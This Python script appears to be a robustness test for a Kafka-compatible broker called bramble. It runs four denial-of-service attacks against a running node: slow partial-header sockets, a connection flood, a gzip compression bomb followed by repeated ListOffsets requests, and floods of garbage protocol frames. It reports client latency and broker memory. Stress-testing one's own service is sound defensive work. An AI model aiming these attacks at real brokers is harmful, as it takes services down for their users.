#!/usr/bin/env python3
"""Resource-exhaustion attacks on a running bramble node (issue 9, items 7-10), each reporting
what a well-behaved client and the node's memory see. Run with the repository's .venv (needs
confluent-kafka for the well-behaved client):

  .venv/bin/python scripts/attack.py headers --bootstrap 127.0.0.1:9092
  .venv/bin/python scripts/attack.py flood   --bootstrap 127.0.0.1:9092 --sockets 600
  .venv/bin/python scripts/attack.py bomb    --bootstrap 127.0.0.1:9092 --pid PID
  .venv/bin/python scripts/attack.py frames  --bootstrap 127.0.0.1:9092 --pid PID

headers: sockets that announce a frame_bytes_max body and send 2 bytes of it; then the time
  until a confluent-kafka client gets Metadata.
flood:   silent connections from 127.0.0.1; then the time until a client from 127.0.0.2 (raw
  ApiVersions) and a confluent-kafka client from 127.0.0.1 are served or refused.
bomb:    one gzip record of 15 MiB of zeros (about 15 KB compressed), then many connections
  asking ListOffsets by timestamp in a loop; reports the node's VmHWM.
frames:  hostile frames (garbage bodies behind real API headers, a few large) over many
  connections; then idle, and reports VmHWM and VmRSS after a few seconds.
"""

import argparse
import os
import random
import socket
import struct
import threading
import time

SERVED_TIMEOUT_S = 120.0


def parse_addr(bootstrap):
    host, port = bootstrap.rsplit(":", 1)
    return host, int(port)


def status_kib(pid, key):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith(key + ":"):
                return int(line.split()[1])
    return -1


def frame(api_key, version, corr, body, client_id=b"attack"):
    msg = struct.pack(">hhih", api_key, version, corr, len(client_id)) + client_id + body
    return struct.pack(">i", len(msg)) + msg


def read_frame(s):
    def exact(n):
        out = b""
        while len(out) < n:
            chunk = s.recv(n - len(out))
            if not chunk:
                raise ConnectionError("closed")
            out += chunk
        return out
    (n,) = struct.unpack(">i", exact(4))
    return exact(n)


def connect_from(local_ip, addr, timeout=SERVED_TIMEOUT_S):
    s = socket.socket()
    s.settimeout(timeout)
    s.bind((local_ip, 0))
    s.connect(addr)
    return s


def raw_api_versions(local_ip, addr):
    """Seconds until ApiVersions v0 is answered, or a string saying why not."""
    started = time.monotonic()
    try:
        s = connect_from(local_ip, addr)
        s.sendall(frame(18, 0, 7, b""))
        read_frame(s)
        s.close()
        return round(time.monotonic() - started, 3)
    except (OSError, ConnectionError) as e:
        return f"refused/failed after {time.monotonic() - started:.3f}s: {e}"


def confluent_metadata(bootstrap):
    """Seconds until a confluent-kafka AdminClient gets Metadata."""
    from confluent_kafka.admin import AdminClient
    started = time.monotonic()
    try:
        AdminClient({"bootstrap.servers": bootstrap}).list_topics(timeout=SERVED_TIMEOUT_S)
        return round(time.monotonic() - started, 3)
    except Exception as e:  # the client's own error types vary by version
        return f"failed after {time.monotonic() - started:.3f}s: {e}"


def attack_headers(args):
    addr = parse_addr(args.bootstrap)
    held = []
    for _ in range(args.sockets):
        s = connect_from("127.0.0.1", addr)
        s.sendall(struct.pack(">i", args.frame_bytes) + b"\x00\x12")
        held.append(s)
    time.sleep(0.5)
    print(f"headers: {args.sockets} sockets announcing {args.frame_bytes} bytes; "
          f"confluent-kafka Metadata served in {confluent_metadata(args.bootstrap)} s")


def attack_flood(args):
    addr = parse_addr(args.bootstrap)
    held = []
    for _ in range(args.sockets):
        try:
            s = socket.create_connection(addr, timeout=2)
            held.append(s)
        except OSError:
            break
    time.sleep(0.5)
    print(f"flood: {len(held)} silent sockets from 127.0.0.1; "
          f"127.0.0.2 raw ApiVersions: {raw_api_versions('127.0.0.2', addr)} s; "
          f"127.0.0.1 confluent-kafka Metadata: {confluent_metadata(args.bootstrap)} s")


def list_offsets_v1(topic, timestamp):
    t = topic.encode()
    return (struct.pack(">i", -1) + struct.pack(">i", 1) + struct.pack(">h", len(t)) + t
            + struct.pack(">i", 1) + struct.pack(">iq", 0, timestamp))


def attack_bomb(args):
    from confluent_kafka import Producer
    from confluent_kafka.admin import AdminClient, NewTopic
    addr = parse_addr(args.bootstrap)
    topic = "bomb"
    admin = AdminClient({"bootstrap.servers": args.bootstrap})  # kept alive until answered
    admin.create_topics([NewTopic(topic, 1, 1)])[topic].result(30)
    p = Producer({"bootstrap.servers": args.bootstrap, "compression.type": "gzip",
                  "message.max.bytes": 100_000_000, "linger.ms": 0})
    p.produce(topic, b"\0" * (15 * 1024 * 1024), timestamp=1000)
    p.flush(60)
    before = status_kib(args.pid, "VmHWM")
    stop = time.monotonic() + args.seconds
    answers = [0]

    def hammer():
        try:
            s = connect_from("127.0.0.1", addr)
            corr = 0
            while time.monotonic() < stop:
                corr += 1
                s.sendall(frame(2, 1, corr, list_offsets_v1(topic, 0)))
                read_frame(s)
                answers[0] += 1
        except (OSError, ConnectionError):
            pass
    threads = [threading.Thread(target=hammer) for _ in range(args.connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    time.sleep(args.idle_seconds)
    print(f"bomb: {args.connections} connections x {args.seconds}s ListOffsets by timestamp "
          f"({answers[0]} answers); VmHWM before {before} KiB, after {status_kib(args.pid, 'VmHWM')} KiB; "
          f"VmRSS {args.idle_seconds}s later {status_kib(args.pid, 'VmRSS')} KiB")


NOISE = random.Random(9).randbytes(8 << 20)


def hostile_frame(rng, big_fraction):
    """A real API header (known or unknown key, any version) and a garbage body; most small,
    `big_fraction` of them 64 KiB - 4 MiB (slices of one noise buffer: generating is slow)."""
    api_key = rng.choice([0, 1, 2, 3, 8, 9, 10, 11, 18, 19, 32, 60, 9999])
    version = rng.randint(-1, 15)
    r = rng.random()
    if r < big_fraction / 10:
        size = rng.randint(1 << 20, 4 << 20)
    elif r < big_fraction:
        size = rng.randint(64 << 10, 1 << 20)
    else:
        size = rng.randint(0, 600)
    at = rng.randint(0, len(NOISE) - size)
    return frame(api_key, version, rng.randint(0, 1 << 30), NOISE[at:at + size])


def attack_frames(args):
    addr = parse_addr(args.bootstrap)
    per_thread = args.count // args.connections
    rss_before = status_kib(args.pid, "VmRSS")

    def sender(seed):
        rng = random.Random(seed)
        s = None
        for _ in range(per_thread):
            try:
                if s is None:
                    s = connect_from("127.0.0.1", addr, timeout=5)
                s.sendall(hostile_frame(rng, args.big_fraction))
                if rng.random() < 0.05:
                    s.close()
                    s = None
            except (OSError, ConnectionError):
                s = None
    started = time.monotonic()
    threads = [threading.Thread(target=sender, args=(i,)) for i in range(args.connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    took = time.monotonic() - started
    hwm = status_kib(args.pid, "VmHWM")
    time.sleep(args.idle_seconds)
    print(f"frames: {per_thread * args.connections} hostile frames over {args.connections} "
          f"connection threads in {took:.1f}s; VmRSS before {rss_before} KiB, VmHWM {hwm} KiB, "
          f"VmRSS {args.idle_seconds}s idle after {status_kib(args.pid, 'VmRSS')} KiB")


def main():
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("attack", choices=["headers", "flood", "bomb", "frames"])
    ap.add_argument("--bootstrap", required=True)
    ap.add_argument("--pid", type=int, default=0, help="the broker's pid (memory figures)")
    ap.add_argument("--sockets", type=int, default=12)
    ap.add_argument("--frame-bytes", type=int, default=16 * 1024 * 1024)
    ap.add_argument("--connections", type=int, default=50)
    ap.add_argument("--seconds", type=float, default=10.0)
    ap.add_argument("--count", type=int, default=200_000)
    ap.add_argument("--big-fraction", type=float, default=0.1,
                    help="frames: share of 64 KiB - 4 MiB frames")
    ap.add_argument("--idle-seconds", type=float, default=5.0)
    args = ap.parse_args()
    if args.attack in ("bomb", "frames") and not args.pid:
        ap.error("--pid is needed for memory figures")
    {"headers": attack_headers, "flood": attack_flood, "bomb": attack_bomb,
     "frames": attack_frames}[args.attack](args)
    os._exit(0)  # held sockets and client threads need no orderly teardown


if __name__ == "__main__":
    main()
